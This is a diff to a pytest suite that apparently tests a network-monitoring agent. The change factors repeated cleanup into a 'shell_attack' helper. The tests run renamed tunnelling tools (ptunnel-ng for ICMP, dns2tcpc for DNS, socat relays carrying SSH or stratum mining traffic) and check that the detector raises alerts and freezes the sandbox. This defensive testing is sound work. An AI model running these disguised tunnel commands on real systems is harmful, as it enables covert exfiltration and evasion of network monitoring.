@@ -11,6 +11,7 @@ import subprocess
 import sys
 import time
 import uuid
+from contextlib import contextmanager
 from pathlib import Path
 
 import pytest
@@ -432,6 +433,18 @@ s6.connect_ex(("::ffff:127.0.0.1", {port}))
     assert conns == [("inet", "127.0.0.1", port, False), ("inet6", "127.0.0.1", port, True)]
 
 
+@contextmanager
+def shell_attack(episode, command: str):
+    """A shell command run in the episode in its own session; killed (and the episode thawed) after."""
+    p = episode.popen(["/bin/sh", "-c", command], start_new_session=True)
+    try:
+        yield p
+    finally:
+        os.killpg(p.pid, 9)
+        (episode.path / "cgroup.freeze").write_text("0")
+        p.wait()
+
+
 # ---------------------------------------------------------------- covert channels, real tunnel tools
 @pytest.fixture
 def netns_server(net, tmp_path):
@@ -484,20 +497,14 @@ def test_icmp_tunnel_with_ptunnel_ng_renamed(agents, episode, net, netns_server,
     worker = tmp_path / "worker"
     shutil.copy(shutil.which("ptunnel-ng"), worker)
     (tmp_path / "send.py").write_text(SEND_THROUGH)
-    p = episode.popen(["/bin/sh", "-c", f"{worker} -p{net.addr} -l2299 -r{net.addr} -R22 -v-1 & "
-                                        f"{sys.executable} {tmp_path / 'send.py'} 2299; kill $!"],
-                      start_new_session=True)
-    try:
+    with shell_attack(episode, f"{worker} -p{net.addr} -l2299 -r{net.addr} -R22 -v-1 & "
+                               f"{sys.executable} {tmp_path / 'send.py'} 2299; kill $!"):
         assert wait_frozen(episode, timeout=20)
         recs = wait_records(out, episode, lambda rs: "icmp_tunnel" in alerts(rs))
         assert {"raw_socket_opened", "icmp_tunnel"} <= set(alerts(recs))
         pkts = [r for r in recs if r["type"] == "packet" and r["protocol"] == "icmp"]
         assert pkts and pkts[0]["address"] == net.addr and max(x["len"] for x in pkts) > 128
         assert response(recs)["outcome"] == "frozen"
-    finally:
-        os.killpg(p.pid, 9)
-        (episode.path / "cgroup.freeze").write_text("0")
-        p.wait()
 
 
 def test_dns_tunnel_with_dns2tcp_renamed(agents, episode, net, netns_server, tmp_path):
@@ -510,20 +517,14 @@ def test_dns_tunnel_with_dns2tcp_renamed(agents, episode, net, netns_server, tmp
     helper = tmp_path / "resolver-helper"
     shutil.copy(shutil.which("dns2tcpc"), helper)
     (tmp_path / "send.py").write_text(SEND_THROUGH)
-    p = episode.popen(["/bin/sh", "-c", f"{helper} -z t.example.org -r ssh -l 2298 {net.addr} & "
-                                        f"{sys.executable} {tmp_path / 'send.py'} 2298; kill $!"],
-                      start_new_session=True)
-    try:
+    with shell_attack(episode, f"{helper} -z t.example.org -r ssh -l 2298 {net.addr} & "
+                               f"{sys.executable} {tmp_path / 'send.py'} 2298; kill $!"):
         assert wait_frozen(episode, timeout=20)
         recs = wait_records(out, episode, lambda rs: "dns_tunnel_query" in alerts(rs))
         assert {"dns_to_unexpected_server", "dns_tunnel_query"} <= set(alerts(recs))
         names = [r["dns"].get("qname", "") for r in recs if r["type"] == "packet" and r.get("port") == 53]
         assert any(n.endswith("t.example.org") and len(n) > 60 for n in names)
         assert response(recs)["outcome"] == "frozen"
-    finally:
-        os.killpg(p.pid, 9)
-        (episode.path / "cgroup.freeze").write_text("0")
-        p.wait()
 
 
 def test_dns_through_a_resolver_and_plain_ping_raise_no_tunnel_alert(agents, episode, net):
@@ -556,10 +557,8 @@ def test_ssh_through_a_local_relay_names_the_relay_and_where_it_goes(agents, epi
     shutil.copy(shutil.which("socat"), relay)
     ssh = " ".join(net.ssh_argv("-p", "2296", "-N", "root@127.0.0.1"))
     # to sshd's port 443: no port-based rule fires on the relay's own connect before ssh speaks
-    p = episode.popen(["/bin/sh", "-c", f"{relay} TCP-LISTEN:2296,bind=127.0.0.1,reuseaddr,fork "
-                                        f"TCP:{net.addr}:{net.SSH_ALT_PORT} & sleep 0.5; {ssh}; kill $!"],
-                      start_new_session=True)
-    try:
+    with shell_attack(episode, f"{relay} TCP-LISTEN:2296,bind=127.0.0.1,reuseaddr,fork "
+                               f"TCP:{net.addr}:{net.SSH_ALT_PORT} & sleep 0.5; {ssh}; kill $!"):
         assert wait_frozen(episode, timeout=20)
         recs = wait_records(out, episode, lambda rs: "session_through_local_tunnel" in alerts(rs))
         (t,) = [r for r in recs if r["type"] == "tunnel"]
@@ -567,10 +566,6 @@ def test_ssh_through_a_local_relay_names_the_relay_and_where_it_goes(agents, epi
         assert t["proc"]["comm"] == "relay" and t["client"]["comm"] == "ssh"
         alert = next(r for r in recs if r["type"] == "alert" and r["rule"] == "session_through_local_tunnel")
         assert f"to {net.addr}:{net.SSH_ALT_PORT}" in alert["summary"] and "relay" in alert["summary"]
-    finally:
-        os.killpg(p.pid, 9)
-        (episode.path / "cgroup.freeze").write_text("0")
-        p.wait()
 
 
 def test_ssh_to_a_local_sshd_of_the_node_is_not_a_tunnel(agents, episode, net):
@@ -596,20 +591,14 @@ def test_stratum_through_a_local_relay(agents, episode, net, tmp_path):
     _, out, _ = agents
     relay = tmp_path / "cache-proxy"
     shutil.copy(shutil.which("socat"), relay)
-    p = episode.popen(["/bin/sh", "-c", f"{relay} TCP-LISTEN:2295,bind=127.0.0.1,reuseaddr,fork "
-                                        f"TCP:{net.addr}:{net.POOL_ALT_PORT} & sleep 0.5; {sys.executable} -c '"
-                                        "import socket, time; s = socket.create_connection((\"127.0.0.1\", 2295)); "
-                                        "s.sendall(b\"{\\\"id\\\": 1, \\\"method\\\": \\\"mining.subscribe\\\", "
-                                        "\\\"params\\\": []}\\n\"); time.sleep(3)'; kill $!"],
-                      start_new_session=True)
-    try:
+    with shell_attack(episode, f"{relay} TCP-LISTEN:2295,bind=127.0.0.1,reuseaddr,fork "
+                               f"TCP:{net.addr}:{net.POOL_ALT_PORT} & sleep 0.5; {sys.executable} -c '"
+                               "import socket, time; s = socket.create_connection((\"127.0.0.1\", 2295)); "
+                               "s.sendall(b\"{\\\"id\\\": 1, \\\"method\\\": \\\"mining.subscribe\\\", "
+                               "\\\"params\\\": []}\\n\"); time.sleep(3)'; kill $!"):
         assert wait_frozen(episode, timeout=20)
         recs = wait_records(out, episode, lambda rs: any(r["type"] == "tunnel" for r in rs))
         (t,) = [r for r in recs if r["type"] == "tunnel"]
         assert (t["carried"], t["detail"], t["proc"]["comm"]) == ("stratum", "mining.subscribe", "cache-proxy")
         assert t["to"] == [f"{net.addr}:{net.POOL_ALT_PORT}"]
         assert "stratum_protocol" in alerts(recs)  # the relay's own bytes to the pool, whatever the port
-    finally:
-        os.killpg(p.pid, 9)
-        (episode.path / "cgroup.freeze").write_text("0")
-        p.wait()
